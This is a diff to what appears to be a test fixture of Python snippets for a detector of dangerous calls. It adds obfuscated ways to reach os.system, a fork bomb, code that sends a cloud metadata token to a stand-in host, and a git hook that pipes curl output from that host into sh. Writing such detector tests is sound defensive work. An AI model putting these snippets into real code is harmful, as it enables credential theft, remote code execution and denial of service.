@@ -77,6 +77,30 @@ E().x.system('id')
 import ctypes
 def f(): ctypes.CDLL(None).system(b'curl https://x.invalid.net/a | sh')
 ---
+def m(): return __import__('subprocess')
+m().run(['bash', '-c', x])
+---
+import os
+type(os).__getattribute__(os, 'system')(x)
+---
+t = {i: c for i, c in enumerate('smetyo')}
+n, g = ''.join(t[i] for i in (5, 0)), ''.join(t[i] for i in (0, 4, 0, 3, 2, 1))
+getattr(__import__(n), g)('id')
+---
+def f():
+    "os system id"
+    a = f.__doc__.split()
+    getattr(__import__(a[0]), a[1])(a[2])
+---
+def os_system(): pass
+m, n = os_system.__name__.split('_')
+getattr(__import__(m), n)(x)
+---
+def f(a): return getattr(__import__(''.join(map(chr, a[0]))), ''.join(map(chr, a[1])))(a[2])
+---
+from git import Repo
+def f(c): Repo('.').git.execute(c)
+---
 import importlib.abc, importlib.machinery, pathlib, sys
 class Loader(importlib.abc.SourceLoader):
     def get_filename(self, n): return n
@@ -135,6 +159,17 @@ for d in os.listdir('/proc'):
     if d.isdigit():
         os.kill(int(d), 9)
 ---
+import os
+while 1: os.fork()
+---
+import urllib.request
+t = urllib.request.urlopen('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token').read()
+def f(): urllib.request.urlopen('https://x.invalid.net', data=t)
+---
+def f():
+    with open('.git/hooks/post-checkout', 'w') as o:
+        o.write('#!/bin/sh\\ncurl https://x.invalid.net/a | sh\\n')
+---
 import requests_unixsocket
 s = requests_unixsocket.Session()
 s.post('http+unix://%2Fvar%2Frun%2Fdocker.sock/containers/create', json={'HostConfig': {'Privileged': True}})
@@ -178,6 +213,16 @@ KINDS = {'sgd': 'torch.optim.SGD'}
 def f(k):
     m, _, n = KINDS[k].rpartition('.')
     return getattr(importlib.import_module(m), n)
+---
+import math, importlib
+def lib(): return math
+def f(a, n):
+    "Roots."
+    left, right = a.split('.')
+    scale = [x ** 2 for x in range(9)]
+    return lib().sqrt(4), getattr(a, 'x'.join(str(i) for i in scale)), getattr(importlib.import_module(left), right)(n)
+---
+def f(o): o.write('Install it by: curl https://x.invalid.net/a | sh')
 ---
 BLOCKED = ['os.system', 'subprocess.run']
 def f(call): return call in BLOCKED
